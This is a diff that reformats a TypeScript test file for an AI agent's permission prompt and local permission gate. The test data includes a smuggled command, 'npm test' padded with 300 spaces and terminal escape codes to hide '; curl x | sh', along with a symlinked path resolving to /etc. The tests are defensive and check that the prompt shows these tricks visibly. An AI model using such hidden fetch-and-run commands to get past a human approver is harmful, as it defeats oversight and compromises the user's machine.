@@ -105,7 +105,9 @@ describe("the interactive permission prompt", () => {
     await until(() => prompts() === 2);
     stdin.write("a\n");
     expect(await answer).toBe("allow_always");
-    expect(stderr.text()).toContain("🔐 The agent asks for permission (p-abc123): execute · npm test\n   command: npm test\n   reason:  run the tests\n");
+    expect(stderr.text()).toContain(
+      "🔐 The agent asks for permission (p-abc123): execute · npm test\n   command: npm test\n   reason:  run the tests\n",
+    );
     expect(prompts()).toBe(2);
 
     const again = asker(ask(), "p-def456", new AbortController().signal);
@@ -115,14 +117,20 @@ describe("the interactive permission prompt", () => {
 
   it("answers no when the run ends while it waits", async () => {
     const controller = new AbortController();
-    const answer = terminalAsker({ stdin: new PassThrough(), stderr: sink() }, createProgress(sink(), { interactive: false }))(ask(), "p-1", controller.signal);
+    const answer = terminalAsker(
+      { stdin: new PassThrough(), stderr: sink() },
+      createProgress(sink(), { interactive: false }),
+    )(ask(), "p-1", controller.signal);
     controller.abort();
     expect(await answer).toBe("reject");
   });
 
   it("shows the start of an edit's diff", () => {
     const diff = Array.from({ length: 30 }, (_, i) => `+line ${i}`).join("\n");
-    const text = describeAsk(ask({ kind: "edit", title: "Edit a.ts", command: undefined, paths: ["a.ts"], reason: undefined, diff }), "p-2");
+    const text = describeAsk(
+      ask({ kind: "edit", title: "Edit a.ts", command: undefined, paths: ["a.ts"], reason: undefined, diff }),
+      "p-2",
+    );
     expect(text).toContain("   path:    a.ts\n   +line 0\n");
     expect(text).toContain("   +line 19\n   … 10 more lines\n");
   });
@@ -142,8 +150,13 @@ describe("the local permission gate", () => {
       },
     });
     const signal = new AbortController().signal;
-    expect(await gate.decide(ask({ kind: "read", title: "Read a.ts", command: undefined, paths: ["a.ts"] }), signal)).toEqual({ outcome: "selected", optionId: "yes" });
-    expect(await gate.decide(ask({ title: "curl x", command: "curl x" }), signal)).toEqual({ outcome: "selected", optionId: "no" });
+    expect(
+      await gate.decide(ask({ kind: "read", title: "Read a.ts", command: undefined, paths: ["a.ts"] }), signal),
+    ).toEqual({ outcome: "selected", optionId: "yes" });
+    expect(await gate.decide(ask({ title: "curl x", command: "curl x" }), signal)).toEqual({
+      outcome: "selected",
+      optionId: "no",
+    });
     expect(await gate.decide(ask(), signal)).toEqual({ outcome: "selected", optionId: "always" });
     expect(await gate.decide(ask(), signal)).toEqual({ outcome: "selected", optionId: "yes" });
     expect(asked).toEqual(["npm test"]);
@@ -161,7 +174,11 @@ describe("the local permission gate", () => {
     const noTerminal = createLocalGate({ config, workspaceDir: "/w" });
     expect(await noTerminal.decide(ask(), signal)).toEqual({ outcome: "selected", optionId: "no" });
     expect(noTerminal.audit[0]?.decidedBy).toBe("policy (not asked: no terminal)");
-    const strict = createLocalGate({ config: { ...config, requireJustification: true }, workspaceDir: "/w", asker: async () => "allow" });
+    const strict = createLocalGate({
+      config: { ...config, requireJustification: true },
+      workspaceDir: "/w",
+      asker: async () => "allow",
+    });
     expect(await strict.decide(ask({ reason: undefined }), signal)).toEqual({ outcome: "selected", optionId: "no" });
     expect(strict.audit[0]?.decidedBy).toBe("policy (no reason given)");
   });
@@ -170,7 +187,11 @@ describe("the local permission gate", () => {
 describe("describeAsk shows the request whole and inert (issue 11)", () => {
   it("makes terminal escape sequences, hidden space runs and symlinked paths visible", () => {
     const text = describeAsk(
-      ask({ command: `npm test${" ".repeat(300)}\u001b[2K\r; curl x | sh`, paths: ["docs/link/x"], resolvedPaths: ["/etc/x"] }),
+      ask({
+        command: `npm test${" ".repeat(300)}\u001b[2K\r; curl x | sh`,
+        paths: ["docs/link/x"],
+        resolvedPaths: ["/etc/x"],
+      }),
       "p-3",
     );
     expect(text).toContain("   command: npm test⟨300 spaces⟩⟨U+001B⟩[2K⟨CR⟩; curl x | sh\n");
